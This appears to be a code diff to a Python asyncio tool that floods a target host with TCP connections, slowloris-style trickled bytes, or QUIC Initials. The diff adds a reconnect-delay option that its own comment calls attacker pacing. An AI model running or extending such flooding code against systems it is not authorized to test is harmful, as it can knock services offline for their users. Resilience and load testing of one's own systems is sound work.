@@ -65,9 +65,12 @@ async def _one_tcp(
     counters: Counters,
     opened: asyncio.Event,
     stop: asyncio.Event,
+    reconnect_delay: float,
 ) -> None:
     first = True
     while not stop.is_set():
+        if not first and reconnect_delay:
+            await asyncio.sleep(reconnect_delay)  # attacker pacing between re-opens
         try:
             reader, writer = await asyncio.open_connection(host, port)
         except OSError:
@@ -109,7 +112,13 @@ async def _one_tcp(
 
 
 async def tcp_flood(
-    kind: str, host: str, port: int, sockets: int, drip: float, stop: asyncio.Event
+    kind: str,
+    host: str,
+    port: int,
+    sockets: int,
+    drip: float,
+    stop: asyncio.Event,
+    reconnect_delay: float = 0.0,
 ) -> Counters:
     counters = Counters()
     payload = hello_bytes()
@@ -118,7 +127,9 @@ async def tcp_flood(
     for i in range(sockets):
         tasks.append(
             asyncio.create_task(
-                _one_tcp(kind, host, port, payload, drip, counters, events[i], stop)
+                _one_tcp(
+                    kind, host, port, payload, drip, counters, events[i], stop, reconnect_delay
+                )
             )
         )
         if i % 100 == 99:
@@ -196,7 +207,9 @@ async def _main(args: argparse.Namespace) -> None:
     if args.kind == "quic":
         counters = await quic_flood(args.host, args.port, args.sockets, stop)
     else:
-        counters = await tcp_flood(args.kind, args.host, args.port, args.sockets, args.drip, stop)
+        counters = await tcp_flood(
+            args.kind, args.host, args.port, args.sockets, args.drip, stop, args.reconnect_delay
+        )
     _emit({"event": "done", "kind": args.kind, **asdict(counters)})
 
 
@@ -207,6 +220,9 @@ def main(argv: list[str] | None = None) -> None:
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--sockets", type=int, default=1000, help="sockets (or QUIC Initials)")
     parser.add_argument("--drip", type=float, default=0.5, help="slowloris: seconds per byte")
+    parser.add_argument(
+        "--reconnect-delay", type=float, default=0.0, help="seconds before re-opening a socket"
+    )
     args = parser.parse_args(argv)
     raise_nofile(args.sockets + 256)
     try:
